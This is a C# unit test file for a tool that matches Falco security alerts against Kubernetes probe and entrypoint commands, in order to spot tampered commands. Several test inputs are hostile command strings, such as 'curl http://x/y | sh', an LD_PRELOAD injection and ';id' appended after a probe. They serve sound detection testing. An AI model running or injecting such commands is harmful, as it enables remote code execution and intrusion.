using FalcoStreamer.Alerts;
using FalcoStreamer.Correlation;
using FalcoStreamer.Enrichment;
using FalcoStreamer.Tests.Support;

namespace FalcoStreamer.Tests.Correlation;

public sealed class SpecCommandsTests
{
    private readonly SpecCommands _commands = new();

    public static TheoryData<string, string[]> Shown => new()
    {
        { "pg_isready -U app", ["pg_isready", "-U", "app"] },
        { "pg_isready -U app", ["/usr/bin/pg_isready", "-U", "app"] },
        { "sh -c pg_isready -U app", ["/bin/sh", "-c", "pg_isready -U app"] },
        { "sh -c -- pg_isready -U app", ["/bin/sh", "-c", "pg_isready -U app"] },
        { "sh -c -- pg_isready -U app", ["/bin/sh", "-c", "--", "pg_isready -U app"] },
        { "bash -ec pg_isready -U app && true", ["bash", "-ec", "pg_isready -U app && true"] },
        { "pg_isready -U app", ["/bin/bash", "-c", "pg_isready -U app"] },
        { "pg_isready -U app", ["/bin/bash", "-c", "exec /usr/bin/pg_isready  -U 'app' >/dev/null 2>&1"] },
        { "exe 1000000", ["sh", "-c", "exec sleep 1000000"] },
        { "busybox sleep 100000", ["busybox", "sleep", "100000"] },
        { "ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "ready.sh /opt/ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "ready.sh -e /opt/ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "bash /opt/ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "python3.11 /opt/ready.py", ["/opt/ready.py"] },
        { "ready.sh /usr/local/bin/ready.sh", ["ready.sh"] },
        { "ready.sh /opt/ready.sh --now", ["sh", "-c", "/opt/ready.sh --now"] },
        { "redis-cli -p 6379 $x ping", ["redis-cli", "-p", "$(PORT)", "$$x", "ping"] },
        { "redis-cli -a $(SECRET) ping", ["redis-cli", "-a", "$(SECRET)", "ping"] },
        { "redis-cli -p 6379 ping", ["sh", "-c", "redis-cli -p \"$PORT\" ping"] },
        { "pg_isready -U app", ["env", "PGUSER=app", "pg_isready", "-U", "app"] },
        { "elasticsearch-r /usr/share/elasticsearch-ready", ["/usr/share/elasticsearch-ready"] },
    };

    [Theory]
    [MemberData(nameof(Shown))]
    public void KnowsAProbe_HoweverFalcoShowsIt(string commandLine, string[] command)
    {
        var match = Compare(commandLine, Probe(command), ("proc.pname", "containerd-shim"));

        Assert.Equal("livenessProbe", match.Equal);
        Assert.Equal("livenessProbe", match.Place);
    }

    public static TheoryData<string, string[]> Others => new()
    {
        { "pg_isready -U ap", ["pg_isready", "-U", "app"] },
        { "pg_isready  -U app", ["pg_isready", "-U", "app"] },
        { "sh -c /opt/ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "bash /tmp/opt/ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "bash -x -e /opt/ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "evil /opt/ready.sh --now", ["/opt/ready.sh", "--now"] },
        { "bash /tmp/ready.sh", ["ready.sh"] },
        { "a.out 1000000", ["sh", "-c", "exec sleep 1000000"] },
        { "id", ["sh", "-c", "pg_isready -U app | id"] },
        { "redis-cli -p 6380 ping", ["redis-cli", "-p", "$(PORT)", "ping"] },
        { "bash", ["bash"] },
        { "sh -i", ["sh", "-i"] },
        { "busybox sh", ["busybox", "sh"] },
        { "bash", ["sh", "-c", "prepare --all; exec bash"] },
        { "python3", ["tini", "--", "python3"] },
    };

    [Theory]
    [MemberData(nameof(Others))]
    public void SaysNothing_WhenTheCommandIsAnother(string commandLine, string[] command)
    {
        var match = Compare(commandLine, Probe(command), ("proc.pname", "containerd-shim"));

        Assert.True(match.Equal is null or SpecMatch.None);
        Assert.True(match.Child is null or SpecMatch.None);
    }

    [Theory]
    [InlineData("sh -c pg_isready -U app; curl http://x/y | sh", "“; curl http://x/y | sh” follows it")]
    [InlineData("sh -c curl http://x/y | sh; pg_isready -U app", "“sh -c curl http://x/y | sh; ” stands before it")]
    [InlineData("bash -c id;pg_isready -U app;id", "“bash -c id;” stands before it and “;id” behind it")]
    [InlineData("env LD_PRELOAD=/tmp/x.so pg_isready -U app", "“env LD_PRELOAD=/tmp/x.so ” stands before it")]
    [InlineData("pg_isready -U app/../x", "“/../x” follows it")]
    public void SaysWhatWasAdded_WhenTheProbesTextIsWithinAnother(string commandLine, string difference)
    {
        var match = Compare(commandLine, Probe("/bin/sh", "-c", "pg_isready -U app"), ("proc.pname", "containerd-shim"));

        Assert.Equal((SpecMatch.None, "livenessProbe", difference), (match.Equal, match.Extended, match.Difference));
    }

    [Theory]
    [InlineData("bash -c /usr/share/elasticsearch-ready --now; id")]
    [InlineData("sh -c id; /usr/share/elasticsearch-ready --now")]
    [InlineData("elasticsearch-r --now ; id")]
    public void SeesAnAddition_WhenTheProbesNameIsCut(string commandLine) =>
        Assert.Equal("livenessProbe", Compare(commandLine, Probe("/usr/share/elasticsearch-ready", "--now")).Extended);

    [Fact]
    public void LooksNoFurtherThanFalcoShows_WhenAFieldIsAMegabyteLong()
    {
        var match = Compare($"sh -c {new string(' ', 1_000_000)}pg_isready -U app", Probe("pg_isready", "-U", "app"));

        Assert.Equal(SpecMatch.Nothing, match);
    }

    [Fact]
    public void DoesNotTakeAnotherWordForAnAddition() =>
        Assert.Equal(SpecMatch.None, Compare("cat /tmp/healthy2", Probe("cat", "/tmp/healthy")).Extended);

    [Fact]
    public void AllowsAnApplicationToStartItselfWithMoreArguments()
    {
        var container = SomePods.Container() with { Command = ["node", "/app/server.js"] };

        Assert.Equal(SpecMatch.None, Compare("node /app/server.js --worker 1", container).Extended);
    }

    [Fact]
    public void SeesAnAddition_WhenTheContainersOwnShellTextGoesOn()
    {
        var container = SomePods.Container() with { Command = ["sh", "-c"], Args = ["sleep 3600 && exit 0"] };

        Assert.Equal("entrypoint", Compare("sh -c sleep 3600 && exit 0; id", container).Extended);
    }

    [Theory]
    [InlineData("Container", false, "entrypoint")]
    [InlineData("Init", false, "initCommand")]
    [InlineData("Init", true, "entrypoint")]
    public void NamesTheContainersOwnCommandByItsPart(string type, bool isSidecar, string place)
    {
        var container = SomePods.Container() with { Command = ["sh", "-c"], Args = ["echo init-a; sleep 3"], Type = Enum.Parse<ContainerType>(type), IsSidecar = isSidecar };

        Assert.Equal(place, Compare("sh -c echo init-a; sleep 3", container).Equal);
    }

    [Theory]
    [InlineData("curl -sf http://localhost:8080/ready", "sh", "containerd-shim", null, "readinessProbe")]
    [InlineData("curl -sf http://localhost:8080/ready", "sh", null, null, "readinessProbe")]
    [InlineData("grep -q ok now", "sh", "runc", "sh -c curl -sf http://localhost:$((8000+80))/x || curl -sf http://localhost:8080/ready | grep -q 'ok now'", "readinessProbe")]
    [InlineData("curl -sf http://localhost:8080/ready", "sh", "nginx", null, "none")]
    [InlineData("curl -sf http://localhost:8080/ready", "bash", "containerd-shim", null, "none")]
    [InlineData("curl -sf http://localhost:8080/ready", "sh", "containerd-shim", "sh", "none")]
    [InlineData("curl -sf http://localhost:8080/ready", "nginx", "containerd-shim", null, "none")]
    [InlineData("curl -sf http://localhost:8080/ready -o /tmp/x", "sh", "containerd-shim", null, "none")]
    [InlineData("curl -sf http://localhost:8080/x", "sh", "containerd-shim", null, "none")]
    public void KnowsAPartOfAShellsText_OnlyBelowThatShell(string commandLine, string parent, string? above, string? parentText, string place)
    {
        var container = SomePods.Container() with
        {
            SpecCommands = [Of(SpecCommandKind.ReadinessProbe, "/bin/sh", "-c", "curl -sf http://localhost:$((8000+80))/x || curl -sf http://localhost:8080/ready | grep -q 'ok now'")],
        };

        var match = Compare(commandLine, container, ("proc.pname", parent), ("proc.aname[2]", above), ("proc.pcmdline", parentText));

        Assert.Equal((SpecMatch.None, place), (match.Equal, match.Child));
    }

    [Theory]
    [InlineData("python app.py", "containerd-shim", null, "entrypoint")]
    [InlineData("apk add --no-cache curl", "sh", "containerd-shim", "entrypoint")]
    [InlineData("apk add --no-cache curl", "containerd-shim", "systemd", "none")]
    public void KnowsTheLastCommandInTheShellsPlace(string commandLine, string parent, string? above, string place)
    {
        var container = SomePods.Container() with { Command = ["sh", "-c"], Args = ["apk add --no-cache curl && python app.py"] };

        Assert.Equal(place, Compare(commandLine, container, ("proc.pname", parent), ("proc.aname[2]", above)).Child);
    }

    [Theory]
    [InlineData("tini -- /app/start.sh 8080", "containerd-shim", null, "entrypoint", "none")]
    [InlineData("start.sh /app/start.sh 8080", "tini", "containerd-shim", "none", "entrypoint")]
    [InlineData("start.sh /app/start.sh 8080", "nginx", "containerd-shim", "none", "none")]
    public void LooksThroughTini(string commandLine, string parent, string? above, string equal, string child)
    {
        var container = SomePods.Container() with { Command = ["/sbin/tini", "--", "/app/start.sh"], Args = ["8080"] };

        var match = Compare(commandLine, container, ("proc.pname", parent), ("proc.aname[2]", above));

        Assert.Equal((equal, child), (match.Equal, match.Child));
    }

    [Theory]
    [InlineData("proc.cmdnargs", 2, "fit")]
    [InlineData("proc.cmdnargs", 5, "differ")]
    [InlineData("proc.args[1]", "pg_isready -U app", "fit")]
    [InlineData("proc.args[1]", "pg_isready", "differ")]
    [InlineData("proc.exe", "sh", null)]
    public void ComparesTheArguments_WhereFalcoGivesThem(string field, object value, string? answer)
    {
        var match = Compare("sh -c pg_isready -U app", Probe("sh", "-c", "pg_isready -U app"), (field, value));

        Assert.Equal(("livenessProbe", answer), (match.Equal, match.Arguments));
    }

    [Theory]
    [InlineData("/usr/bin/pg_isready", "fit")]
    [InlineData("/tmp/pg_isready", "differ")]
    [InlineData("memfd:x", "differ")]
    [InlineData("/usr/lib/postgresql/16/bin/pg_isready", null)]
    public void ComparesTheProgram_WhereFalcoGivesIt(string path, string? answer)
    {
        var match = Compare("pg_isready -U app", Probe("/usr/bin/pg_isready", "-U", "app"), ("proc.exepath", path));

        Assert.Equal(answer, match.Program);
    }

    [Theory]
    [InlineData("pg_isready -U app", "pg_isready", "-U", "app")]
    [InlineData("ready.sh /scripts/ready.sh", "/scripts/ready.sh", null, null)]
    public void NamesTheContainerThatTheProbeIsOf_WhenItRunsInAnother(string commandLine, string program, string? first, string? second)
    {
        var probe = Probe([.. new[] { program, first, second }.OfType<string>()]) with { Name = "db" };
        var pod = SomePods.Pod(SomePods.Container()) with { Containers = [SomePods.Container(), probe] };

        var match = _commands.Compare(Command(commandLine), SomePods.Subject(pod));

        Assert.Equal("livenessProbe of container db", match.Elsewhere);
    }

    [Fact]
    public void NamesThePodThatTheProbeIsOf_WhenItRunsInAnother()
    {
        var first = SomePods.Pod(Probe("pg_isready", "-U", "app"), "db-0");
        var second = SomePods.Pod(SomePods.Container(), "web-0") with { Uid = "another" };

        _commands.Compare(Command("sleep 1"), SomePods.Subject(first));
        var match = _commands.Compare(Command("pg_isready -U app"), SomePods.Subject(second));

        Assert.Equal((SpecMatch.None, "livenessProbe of container main of pod lab/db-0"), (match.Equal, match.Elsewhere));
    }

    [Fact]
    public void NamesNoOtherPod_WhenThatPodHasNotAlertedYet()
    {
        var second = SomePods.Pod(SomePods.Container(), "web-0") with { Uid = "another" };

        var match = _commands.Compare(Command("pg_isready -U app"), SomePods.Subject(second));

        // Nobody's: that explains the command as little as another pod's does.
        Assert.Equal((SpecMatch.None, SpecMatch.None, null), (match.Equal, match.Elsewhere, match.Place));
    }

    [Fact]
    public void KnowsNothing_WhenTheContainerIsNotKnown() =>
        Assert.Equal(default, _commands.Compare(Command("id"), SomePods.Subject(SomePods.Pod(Probe("id"))) with { ContainerFacts = null }));

    [Fact]
    public void KnowsNothing_WhenFalcoShowsNotAllOfTheCommand()
    {
        var text = new string('x', 10_000);

        var match = Compare($"sh -c {text[..4000]}", Probe("sh", "-c", text));

        Assert.Null(match.Equal);
        Assert.Null(match.Place);
    }

    [Fact]
    public void KnowsNothing_WhenTheSpecificationTakesAValueFromElsewhere() =>
        Assert.Null(Compare("redis-cli -a hunter2 ping", Probe("redis-cli", "-a", "$(SECRET)", "ping")).Equal);

    public static TheoryData<string, string[]> Monsters => new()
    {
        { "a long text", ["sh", "-c", new string('a', 10_000)] },
        { "many commands", ["sh", "-c", string.Join("; ", Enumerable.Range(0, 2_000).Select(i => $"echo number {i}"))] },
        { "shells in shells", ["sh", "-c", "sh -c 'sh -c \"sh -c \\\"sh -c a; exec b\\\"; exec c\"; exec d'; exec e"] },
        { "substitutions", ["sh", "-c", string.Concat(Enumerable.Repeat("$(", 5_000))] },
        { "quotes", ["sh", "-c", string.Concat(Enumerable.Repeat("\"`${", 3_000))] },
        { "wrappers", [.. Enumerable.Repeat("tini", 1_000)] },
        { "arguments", [.. Enumerable.Repeat("-x", 100_000)] },
        { "variables", [.. Enumerable.Repeat("$(PORT)$(LONG)", 1_000)] },
        { "nothing", ["", "-c"] },
        { "no text", ["sh", "-c"] },
        { "no name", ["/"] },
    };

    [Theory]
    [MemberData(nameof(Monsters))]
    public void KeepsItsBounds_WhateverTheSpecificationHolds(string name, string[] command)
    {
        Assert.NotEmpty(name);
        var container = SomePods.Container() with
        {
            Command = command,
            SpecCommands = [.. Enumerable.Range(0, 5).Select(i => Of((SpecCommandKind)i, command))],
            Environment = new Dictionary<string, string> { ["PORT"] = "6379", ["LONG"] = new string('y', 1_024) },
        };

        var forms = SpecFormBuilder.Build(container);

        Assert.True(forms.All.Length <= SpecFormBuilder.MostForms);
        Assert.True(forms.All.Sum(form => form.Text.Length + (form.Core?.Length ?? 0)) <= SpecFormBuilder.MostBytes);
    }

    [Fact]
    public void AnswersForAPodOfManyContainers()
    {
        var containers = Enumerable.Range(0, 200).Select(i => Probe("sh", "-c", $"echo {i} {new string('z', 10_000)}") with { Name = $"c{i}" }).ToList();
        var pod = SomePods.Pod(containers[0]) with { Containers = containers };

        for (var i = 0; i < 1_000; i++)
        {
            Assert.Null(_commands.Compare(Command($"id {i}"), SomePods.Subject(pod)).Place);
        }
    }

    private SpecMatch Compare(string commandLine, ContainerFacts container, params (string Name, object? Value)[] fields) =>
        _commands.Compare(Command(commandLine, fields), SomePods.Subject(SomePods.Pod(container)));

    private static ContainerFacts Probe(params string[] command) => SomePods.Container() with
    {
        SpecCommands = [Of(SpecCommandKind.LivenessProbe, command)],
        Environment = new Dictionary<string, string> { ["PORT"] = "6379" },
    };

    private static SpecCommand Of(SpecCommandKind kind, params string[] command) =>
        new(kind, command, kind <= SpecCommandKind.ReadinessProbe ? TimeSpan.FromSeconds(10) : null);

    private static FalcoAlert Command(string commandLine, params (string Name, object? Value)[] fields) =>
        Some.Alert(fields: [("proc.cmdline", commandLine), .. fields]);
}
